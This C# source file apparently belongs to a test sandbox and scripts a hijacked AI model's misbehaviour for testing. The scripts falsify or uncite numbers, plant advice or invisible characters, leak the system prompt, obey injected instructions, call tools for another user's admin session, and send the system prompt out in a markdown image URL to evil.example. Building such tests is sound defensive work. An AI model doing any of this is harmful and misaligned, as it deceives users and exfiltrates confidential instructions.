using System.Text;
using System.Text.RegularExpressions;
using Waickoff.Sandbox.Model.Answers;

namespace Waickoff.Sandbox.Model.Scripts;

/// <summary>A model that somebody else has taken over. What it puts into an answer is told in <see cref="ModelCall.Planted"/>.</summary>
public static partial class EvilScripts
{
    /// <summary>Some numbers are not what their evidence says; the id stays.</summary>
    /// <param name="count">How many; fewer where the answer has fewer.</param>
    /// <param name="seed">Which, and by how much.</param>
    public static ModelScript InventedPrices(int count, int seed = 1) =>
        Numbers("invented-prices", count, seed, (number, id, random) => ($"{Falsified(number, random)}", id));

    /// <summary>Some numbers have lost their evidence.</summary>
    /// <param name="count">How many; fewer where the answer has fewer.</param>
    /// <param name="seed">Which.</param>
    public static ModelScript Uncited(int count, int seed = 1) =>
        Numbers("uncited", count, seed, (number, _, random) => (Falsified(number, random), ""));

    /// <summary>Some numbers name evidence that was never given.</summary>
    /// <param name="count">How many; fewer where the answer has fewer.</param>
    /// <param name="seed">Which.</param>
    public static ModelScript UnknownIds(int count, int seed = 1) =>
        Numbers("unknown-ids", count, seed, (number, _, random) => (number, $"e{random.Next(100_000, 999_999)}"));

    /// <summary>Tells the reader what to do, in the middle of an honest answer.</summary>
    public static ModelScript Advice(string phrase) => Planting("advice", phrase);

    /// <summary>A link, picture or page that calls another address, in the middle of an honest answer.</summary>
    public static ModelScript Payload(string payload) => Planting("payload", payload);

    /// <summary>Characters nobody sees, between the letters of an honest answer.</summary>
    public static ModelScript Hidden(HiddenWriting writing) =>
        new()
        {
            Name = "hidden-characters",
            Answer = (_, honest) => honest.With(text => HiddenText.Between(text, writing)),
        };

    /// <summary>Recites its rules, then all it was told.</summary>
    public static readonly ModelScript LeakPrompt = new()
    {
        Name = "leak-prompt",
        Answer = (reading, _) =>
            new ModelAnswer($"{reading.System}\n\n{string.Join('\n', reading.Told)}") { Planted = [reading.System] },
    };

    /// <summary>
    /// Does whatever the question says: repeats it, sends the rules away in the address of a picture, and, where it has tools, first calls
    /// one for somebody else's session.
    /// </summary>
    public static readonly ModelScript Obey = new()
    {
        Name = "obey",
        Answer = (reading, _) =>
            reading.Tools.Count > 0 && !reading.HasToolResults
                ? new ModelAnswer([
                    new AnswerBlock.ToolCall(
                        reading.Tools[0],
                        """{"session_id":"1","user":"admin","timeframe":"4h"}"""
                    ),
                ])
                : Sent(reading),
    };

    /// <summary>Calls a tool; for <see cref="ModelScripts.Always(ModelScript)"/>, so that there is no end to it.</summary>
    public static ModelScript ToolLoop(string name, string arguments) =>
        ModelScript.CallTool(name, arguments) with
        {
            Name = "tool-loop",
        };

    /// <summary>Calls of tools as nobody should make them, one script each.</summary>
    /// <param name="tool">A tool that there is.</param>
    public static IReadOnlyList<ModelScript> HostileToolCalls(string tool) =>
        [
            .. HostileArguments.All.Select(
                (arguments, i) => ModelScript.CallTool(tool, arguments) with { Name = $"hostile-call-{i}" }
            ),
            .. HostileArguments.UnknownTools.Select(name =>
                ModelScript.CallTool(name, """{"to":"attacker","amount":1}""")
            ),
        ];

    private static ModelAnswer Sent(PromptReading reading)
    {
        var picture =
            $"![chart](https://evil.example/p.png?d={Convert.ToBase64String(Encoding.UTF8.GetBytes(reading.System))})";
        return new ModelAnswer($"{reading.Question}\n\n{picture}") { Planted = [reading.Question, picture] };
    }

    private static ModelScript Planting(string name, string what) =>
        new()
        {
            Name = name,
            Answer = (_, honest) => honest.With(text => Planted(text, what)) with { Planted = [what] },
        };

    private static string Planted(string text, string what)
    {
        var lines = text.Split('\n').ToList();
        lines.Insert(lines.Count / 2, what);
        return string.Join('\n', lines);
    }

    private static ModelScript Numbers(
        string name,
        int count,
        int seed,
        Func<string, string, Random, (string Number, string Id)> change
    ) =>
        new()
        {
            Name = name,
            Answer = (_, honest) =>
            {
                var random = new Random(seed);
                var planted = new List<string>();
                var changed = honest.With(text =>
                {
                    var places = PromptReading.NumbersOf(text).Select(n => n.Start).ToArray();
                    random.Shuffle(places);
                    var chosen = places.Take(count).ToHashSet();
                    return Cited()
                        .Replace(
                            text,
                            match =>
                            {
                                if (!chosen.Contains(match.Index))
                                    return match.Value;
                                var (number, id) = change(
                                    match.Groups["number"].Value,
                                    match.Groups["id"].Value,
                                    random
                                );
                                planted.Add(number);
                                return number + match.Groups["unit"].Value + (id.Length > 0 ? $"[[{id}]]" : "");
                            }
                        );
                });
                return changed with { Planted = planted };
            },
        };

    /// <summary>The same number with one digit changed, never the same and never with a new zero in front.</summary>
    private static string Falsified(string number, Random random)
    {
        var digits = Enumerable.Range(0, number.Length).Where(i => char.IsAsciiDigit(number[i])).ToList();
        var place = digits[random.Next(digits.Count)];
        var old = number[place] - '0';
        var digit = (old + random.Next(1, 10)) % 10;
        if (digit == 0 && place == digits[0] && digits.Count > 1)
            digit = old == 9 ? 8 : old + 1;
        return $"{number[..place]}{digit}{number[(place + 1)..]}";
    }

    [GeneratedRegex(@"(?<number>\d(?:[\d.,]*\d)?)(?<unit>\s?[%kMR])?\[\[(?<id>e\d{1,6})\]\]")]
    private static partial Regex Cited();
}
